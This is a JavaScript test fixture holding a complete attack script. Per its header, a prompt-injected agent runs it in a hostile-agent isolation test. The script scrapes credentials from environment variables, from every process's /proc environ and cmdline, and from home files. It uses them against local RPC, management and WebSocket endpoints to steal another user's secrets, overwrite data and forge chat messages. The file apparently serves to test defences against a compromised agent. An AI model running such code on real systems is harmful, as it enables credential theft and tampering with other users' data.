/**
 * What a prompt-injected agent runs from its shell (OpenClaw's `exec`) in the hostile-agent test: it
 * gathers everything it can see from inside (its environment, every process's /proc environ and
 * command line, the files under its home and work dir), takes every token-like string as a
 * credential, and with each one tries to read or change another user's data, secrets and agent
 * through every endpoint it found (the store RPC, the Management API, the agent WebSocket). It writes
 * what it saw and what worked to a JSON file. Plain JavaScript for Node 24 (the runtime in the
 * image), no dependencies.
 */
export const ATTACK_SCRIPT = String.raw`
import { readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";

const [out, victim, victimTab, self] = process.argv.slice(2);
const report = { ownEnv: Object.keys(process.env).sort(), endpoints: {}, candidates: [], attempts: [], breaches: [] };
const strings = new Set();
const endpoints = new Set();

function take(value, endpointsToo) {
  if (typeof value !== "string") return;
  if (endpointsToo && /^(https?|wss?):\/\/127\.0\.0\.1:\d+/.test(value)) endpoints.add(value);
  for (const piece of value.split(/[\s"',:=;{}\[\]]+/))
    if (/^[A-Za-z0-9_\-+/.]{16,200}$/.test(piece) && !piece.startsWith("/") && !piece.startsWith(".")) strings.add(piece);
}
function procStrings(pid, file) {
  try {
    return readFileSync("/proc/" + pid + "/" + file, "utf8").split("\0").map((entry) => {
      const at = entry.indexOf("=");
      return at > 0 && file === "environ" ? entry.slice(at + 1) : entry;
    });
  } catch {
    return [];
  }
}

// 1. Everything visible from inside: our env and our ancestors' (the task, the runner: where the
// endpoints we are wired to show), our own files, then every other process on the machine.
const ancestry = [];
for (let pid = String(process.pid); pid && pid !== "0" && ancestry.length < 20; ) {
  ancestry.push(pid);
  pid = /PPid:\s*(\d+)/.exec(readFileSync("/proc/" + pid + "/status", "utf8"))?.[1];
}
for (const v of Object.values(process.env)) take(v, true);
for (const pid of ancestry) for (const file of ["environ", "cmdline"]) for (const v of procStrings(pid, file)) take(v, true);
function walk(dir, depth) {
  if (depth > 6) return;
  let names = [];
  try { names = readdirSync(dir); } catch { return; }
  for (const name of names) {
    const path = join(dir, name);
    let st;
    try { st = statSync(path); } catch { continue; }
    if (st.isDirectory()) { if (name !== "node_modules" && name !== "cache") walk(path, depth + 1); }
    else if (st.size < 256 * 1024 && /\.(json|txt|md|env|yaml|yml|toml|log)$|^[^.]*$/.test(name)) {
      try { take(readFileSync(path, "utf8")); } catch {}
    }
  }
}
for (const dir of [process.env.HOME, process.cwd()]) if (dir) walk(dir, 0);
// What its own process tree and files hold (as opposed to other processes of the same OS user).
report.ownCandidates = [...strings];
for (const pid of readdirSync("/proc").filter((p) => /^\d+$/.test(p) && !ancestry.includes(p)))
  for (const file of ["environ", "cmdline"]) for (const v of procStrings(pid, file)) take(v, false);

// Which loopback servers speak the store RPC (they answer an unauthenticated call with UNAUTHORIZED).
const origins = new Set();
for (const origin of new Set([...endpoints].map((e) => new URL(e).origin.replace(/^ws/, "http")))) {
  try {
    const res = await fetch(origin + "/_local/rpc", { method: "POST", body: "{}" });
    if ((await res.text()).includes("UNAUTHORIZED")) origins.add(origin);
  } catch {}
}
const candidates = [...strings].slice(0, 300);
report.candidates = candidates;
report.origins = [...origins];

async function attempt(what, run) {
  try {
    const result = await run();
    report.attempts.push({ what, ...result });
    if (result.ok) report.breaches.push({ what, ...result });
  } catch (err) {
    report.attempts.push({ what, error: String(err).slice(0, 200) });
  }
}

// 2. The store RPC with every candidate token: another user's key, history, files, agent state; our own
// usage (the budget), a pairing, the bot and webhook secrets, the list of every agent.
const calls = [
  ["secrets", "get", ["users/" + victim + "/llm-api-key"]],
  ["secrets", "get", ["telegram/webhook-secret"]],
  ["secrets", "get", ["slack/signing-secret"]],
  ["secrets", "get", ["telegram/bot-token"]],
  ["secrets", "get", ["discord/bot-token"]],
  ["secrets", "get", ["slack/bot-token"]],
  ["settings", "get", [victim, "settings"]],
  ["settings", "list", [victim, ""]],
  ["settings", "put", [self, "usage#" + new Date().toISOString().slice(0, 7), { agentSeconds: 0, starts: 0 }]],
  ["settings", "put", ["telegram-4242", "pairing", { userId: self }]],
  ["conversations", "listMeta", [victim]],
  ["pending", "list", [victim]],
  ["blobs", "get", ["users/" + victim + "/notes.txt"]],
  ["blobs", "list", ["users/"]],
  ["blobs", "put", ["users/" + victim + "/notes.txt", "aGFja2Vk"]],
  ["taskState", "get", [victim]],
  ["taskState", "listActive", []],
  ["taskState", "transition", [{ userId: victim, expectState: "Running", set: { state: "Stopping" } }]],
  ["connections", "listByUser", [victim, "client"]],
];
for (const origin of origins) {
  for (const token of [undefined, ...candidates]) {
    for (const [port, method, args] of calls) {
      await attempt("rpc " + port + "." + method + " via " + origin, async () => {
        const res = await fetch(origin + "/_local/rpc", {
          method: "POST",
          headers: { "content-type": "application/json", ...(token ? { authorization: "Bearer " + token } : {}) },
          body: JSON.stringify({ port, method, args }),
        });
        const text = await res.text();
        return { ok: res.ok, status: res.status, body: res.ok ? text.slice(0, 300) : undefined };
      });
    }
  }
  // 3. The Management API: a forged frame into the other user's open tab, and closing it.
  for (const token of [undefined, ...candidates]) {
    for (const method of ["POST", "DELETE"]) {
      await attempt("management " + method + " victim tab", async () => {
        const res = await fetch(origin + "/@connections/" + encodeURIComponent(victimTab), {
          method,
          headers: { ...(token ? { "x-local-token": token } : {}) },
          body: method === "POST" ? JSON.stringify({ type: "chat.final", text: "FORGED", clientMessageId: "x", conversationId: "x", messageId: "x", createdAt: new Date().toISOString() }) : undefined,
        });
        await res.text();
        return { ok: res.ok, status: res.status };
      });
    }
  }
  // 4. The agent WebSocket: connect as the other user's agent, or as its own (the chat relay lives on
  // that link: a bot message into another user's chat), with every candidate as the secret; once open,
  // ask the relay to post into the victim's chat.
  const relayFrame = JSON.stringify({ type: "agent.relay", id: "x1", pendingId: "2026-01-01T00:00:00.000Z#x", call: { op: "telegram.send", text: "FORGED", html: false } });
  for (const [who, userId] of [["victim", victim], ["itself", self]]) {
    for (const token of candidates) {
      await attempt("agent socket as " + who + ", then the chat relay", () => new Promise((resolve) => {
        const url = origin.replace(/^http/, "ws") + "/agent?userId=" + encodeURIComponent(userId) + "&secret=" + encodeURIComponent(token);
        const ws = new WebSocket(url);
        const timer = setTimeout(() => { ws.close(); resolve({ ok: false, status: "timeout" }); }, 5000);
        ws.onopen = () => { clearTimeout(timer); ws.send(relayFrame); setTimeout(() => ws.close(), 500); resolve({ ok: true, status: "open" }); };
        ws.onerror = () => { clearTimeout(timer); resolve({ ok: false, status: "refused" }); };
      }));
    }
  }
}
report.attemptCount = report.attempts.length;
report.kinds = {};
for (const a of report.attempts) report.kinds[a.what] = (report.kinds[a.what] ?? 0) + 1;
report.attempts = report.attempts.slice(0, 50);
writeFileSync(out, JSON.stringify(report));
console.log("attack finished: " + report.attemptCount + " attempts, " + report.breaches.length + " breaches");
`;
